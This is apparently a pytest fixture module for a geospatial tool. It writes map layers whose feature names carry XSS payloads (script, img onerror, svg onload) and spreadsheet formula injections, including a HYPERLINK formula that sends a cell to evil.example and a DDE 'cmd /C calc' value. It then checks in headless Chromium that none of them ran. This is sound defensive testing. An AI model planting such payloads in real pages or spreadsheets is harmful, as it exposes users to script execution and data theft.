"""Hostile inputs built in tmp_path: names that try to run script in a page or a formula in a spreadsheet."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import geopandas as gpd
import pytest
import shapely

#: Script that would leave a trace in the page: a <pwned> element, id="pwned", or a changed title.
SCRIPT = "</title><script>document.title='PWNED';document.body&&document.body.appendChild(document.createElement('pwned'))</script>"
IMG = "<img src=x onerror=\"document.title='PWNED';document.body.appendChild(document.createElement('pwned'))\">"
BREAKOUT = "\"'></script><svg onload=\"document.title='PWNED'\">"
NAME = f"Hills {SCRIPT}{IMG}"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULAS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tx", "\rx"]
CHROMIUM = "/usr/bin/chromium"


def hostile_units(path: Path) -> Path:
    """Four 0.1° units at the equator, whose names carry script and formulas."""
    names = [IMG, SCRIPT, BREAKOUT, FORMULA]
    geoms = [shapely.box(x, y, x + 0.1, y + 0.1) for y in (0.0, 0.1) for x in (0.0, 0.1)]
    gpd.GeoDataFrame({"name": names, "kind": FORMULAS[:4]}, geometry=geoms, crs=4326).to_file(path, layer="districts")
    return path


def hostile_ecosystems(path: Path) -> Path:
    geoms = [shapely.box(0, 0, 0.2, 0.12), shapely.box(0, 0.12, 0.2, 0.2)]
    gpd.GeoDataFrame({"cls": [FORMULA, IMG]}, geometry=geoms, crs=4326).to_file(path, layer="eco")
    return path


def chromium_dom(page: Path) -> str:
    """The DOM of ``page`` after its scripts ran (headless Chromium, no network); skip when Chromium is absent."""
    if not Path(CHROMIUM).exists():
        pytest.skip(f"{CHROMIUM} not installed (CI apt-installs chromium)")
    profile = tempfile.mkdtemp()
    try:
        proc = subprocess.run(
            [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
             "--disable-component-update", "--disable-sync", "--no-first-run", f"--user-data-dir={profile}",
             "--virtual-time-budget=4000", "--dump-dom", page.resolve().as_uri()],
            capture_output=True, text=True, timeout=120, env={**os.environ, "HOME": profile},
        )
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "<html" in proc.stdout, proc.stderr[-2000:]
    return proc.stdout


def assert_no_script_ran(dom: str) -> None:
    """No payload ran: no <pwned> element was added and the title was not replaced by 'PWNED'."""
    assert "<pwned" not in dom.lower()
    assert "<title>PWNED</title>" not in dom
